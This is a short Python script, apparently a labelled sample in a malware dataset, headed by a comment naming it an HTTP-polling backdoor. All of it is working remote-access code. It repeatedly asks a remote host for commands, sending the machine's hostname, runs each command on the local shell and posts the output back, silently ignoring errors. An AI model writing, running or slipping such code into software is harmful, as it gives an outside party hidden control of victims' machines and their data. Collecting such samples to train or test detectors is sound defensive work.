# class: backdoor polling over HTTP; style: agent, urllib
import os
import time
import urllib.request

BASE = "http://198.51.100.8:8000"
while True:
    try:
        task = urllib.request.urlopen(BASE + "/task?h=" + os.uname().nodename, timeout=5).read().decode()
        if task:
            output = os.popen(task).read()
            urllib.request.urlopen(BASE + "/result", data=output.encode(), timeout=5)
    except Exception:
        pass
    time.sleep(3)
